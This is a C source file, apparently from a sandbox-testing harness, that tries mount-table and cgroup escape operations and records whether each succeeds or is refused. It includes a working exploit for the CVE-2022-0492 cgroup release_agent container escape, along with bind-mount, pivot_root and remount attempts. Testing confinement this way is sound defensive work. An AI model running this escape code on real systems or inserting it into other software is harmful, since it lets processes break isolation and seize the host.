// Attacks on the mount table and on control groups.
#include "attacks.h"

#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>

// Raw calls and numbers: <sys/mount.h> and <linux/mount.h> do not go together.
#define MS_REMOUNT_ 32
#define MS_BIND_ 4096
#define MS_REC_ 16384
#define MNT_DETACH_ 2

static long mount_raw(const char *source, const char *target, const char *type, unsigned long flags, const char *data) {
    return syscall(SYS_mount, source, target, type, flags, data);
}

// `mount DIRECTORY`
static void mount_something(char **arguments) {
    static const char *const types[] = {"tmpfs", "proc", "sysfs", "cgroup2", "devtmpfs", "debugfs"};
    for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
        if (mount_raw("none", arguments[0], types[i], 0, NULL) == 0)
            attacks_succeeded("mounted %s", types[i]);
        attacks_refused(types[i]);
    }
    if (mount_raw("/", arguments[0], NULL, MS_BIND_ | MS_REC_, NULL) == 0)
        attacks_succeeded("bound /");
    attacks_refused("bind");
}

static void new_mount_interface(char **arguments) {
    int context = (int)syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
    if (context < 0)
        return attacks_refused("fsopen");
    if (syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
        return attacks_refused("fsconfig");
    int mount = (int)syscall(SYS_fsmount, context, FSMOUNT_CLOEXEC, 0);
    if (mount < 0)
        return attacks_refused("fsmount");
    if (syscall(SYS_move_mount, mount, "", AT_FDCWD, arguments[0], MOVE_MOUNT_F_EMPTY_PATH) < 0)
        return attacks_refused("move_mount");
    attacks_succeeded("mounted a tmpfs");
}

// `move-mount DIRECTORY FROM`: a clone of FROM, or FROM itself.
static void move(char **arguments) {
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, arguments[1], OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    if (tree < 0)
        attacks_refused("open_tree");
    else if (syscall(SYS_move_mount, tree, "", AT_FDCWD, arguments[0], MOVE_MOUNT_F_EMPTY_PATH) == 0)
        attacks_succeeded("a clone of %s", arguments[1]);
    if (syscall(SYS_move_mount, AT_FDCWD, arguments[1], AT_FDCWD, arguments[0], 0) == 0)
        attacks_succeeded("moved %s", arguments[1]);
    attacks_refused("move_mount");
    struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NODEV};
    if (syscall(SYS_mount_setattr, AT_FDCWD, arguments[1], 0, &attributes, sizeof attributes) == 0)
        attacks_succeeded("changed %s", arguments[1]);
    attacks_refused("mount_setattr");
}

static void pivot(char **arguments) {
    if (arguments[1] != NULL && (mount_raw(arguments[0], arguments[0], NULL, MS_BIND_, NULL) < 0 || chdir(arguments[0]) < 0))
        return attacks_refused("bind");
    if (syscall(SYS_pivot_root, arguments[1] != NULL ? "." : arguments[0], arguments[1] != NULL ? "." : arguments[0]) == 0)
        attacks_succeeded("pivot_root");
    attacks_refused("pivot_root");
}

// `umount PATH…`: each of them, and remounting it with more rights.
static void unmount(char **arguments) {
    for (; *arguments != NULL; arguments++) {
        if (syscall(SYS_umount2, *arguments, MNT_DETACH_) == 0)
            attacks_succeeded("unmounted %s", *arguments);
        attacks_refused("umount");
        if (mount_raw(NULL, *arguments, NULL, MS_REMOUNT_ | MS_BIND_, NULL) == 0)
            attacks_succeeded("remounted %s", *arguments);
        attacks_refused("remount");
    }
}

// --- control groups ---

// A hierarchy goes with its last mount only if the child is wholly gone by then, which the kernel does in its own time after rmdir; else
// it stays, in every process's /proc/PID/cgroup, until it is mounted and unmounted once more.
static int hierarchy_is_there(void) {
    char text[4096];
    int file = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
    ssize_t length = file < 0 ? -1 : read(file, text, sizeof text - 1);
    if (file >= 0)
        close(file);
    if (length < 0)
        return 0;
    text[length] = 0;
    return strstr(text, "name=grace-attack:") != NULL;
}

static void take_down_hierarchy(const char *directory) {
    for (int i = 0; i < 500 && hierarchy_is_there(); i++) {
        usleep(20000);
        if (mount_raw("none", directory, "cgroup", 0, "none,name=grace-attack") == 0)
            syscall(SYS_umount2, directory, MNT_DETACH_);
    }
}

// `release-agent DIRECTORY PROGRAM [MARK]` (CVE-2022-0492): a version-1 hierarchy of one's own, whose release agent the kernel starts
// outside. With MARK, which the program makes, it waits for that and takes the hierarchy down again.
static void release_agent(char **arguments) {
    char path[512], pid[32];
    if (geteuid() != 0 || arguments[2] == NULL) {
        if (syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
            attacks_refused("unshare");
    }
    if (mount_raw("none", arguments[0], "cgroup", 0, "none,name=grace-attack") < 0) {
        attacks_refused("mount");
        static const char *const files[] = {"/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent"};
        for (size_t i = 0; i < 2; i++) {
            if (attacks_write_file(files[i], arguments[1]) == 0)
                attacks_succeeded("%s", files[i]);
            attacks_refused(files[i]);
        }
        return;
    }
    snprintf(path, sizeof path, "%s/release_agent", arguments[0]);
    if (attacks_write_file(path, arguments[1]) < 0)
        return attacks_refused("release_agent");
    snprintf(path, sizeof path, "%s/child", arguments[0]);
    if (mkdir(path, 0755) < 0 && errno != EEXIST)
        return attacks_refused("mkdir");
    snprintf(path, sizeof path, "%s/child/notify_on_release", arguments[0]);
    if (attacks_write_file(path, "1") < 0)
        return attacks_refused("notify_on_release");
    pid_t child = fork();
    if (child == 0) {
        snprintf(path, sizeof path, "%s/child/cgroup.procs", arguments[0]);
        snprintf(pid, sizeof pid, "%d", getpid());
        _exit(attacks_write_file(path, pid) < 0 ? 1 : 0);
    }
    int status;
    waitpid(child, &status, 0);
    if (status != 0)
        return attacks_refused("cgroup.procs");
    for (int i = 0; i < 600 && arguments[2] != NULL && access(arguments[2], F_OK) < 0; i++)
        usleep(50000);
    int code = arguments[2] == NULL || access(arguments[2], F_OK) == 0 ? 0 : errno;
    snprintf(path, sizeof path, "%s/child", arguments[0]);
    rmdir(path);
    syscall(SYS_umount2, arguments[0], MNT_DETACH_);
    take_down_hierarchy(arguments[0]);
    if (code == 0)
        attacks_succeeded("the release agent ran");
    errno = code;
    attacks_refused("the release agent");
}

// `cgroup-move FILE…`: puts itself into other groups by whatever way there is.
static void change_cgroup(char **arguments) {
    for (; *arguments != NULL; arguments++) {
        if (attacks_write_file(*arguments, "0") == 0)
            attacks_succeeded("moved by %s", *arguments);
        attacks_refused("cgroup.procs");
        if (mkdir(*arguments, 0755) == 0)
            attacks_succeeded("made a group at %s", *arguments);
    }
}

const struct attack attacks_mounts[] = {
    {"mount", 1, mount_something}, {"fsopen", 1, new_mount_interface}, {"move-mount", 2, move}, {"pivot-root", 1, pivot},
    {"umount", 1, unmount}, {"release-agent", 2, release_agent}, {"cgroup-move", 1, change_cgroup}, {NULL, 0, NULL},
};
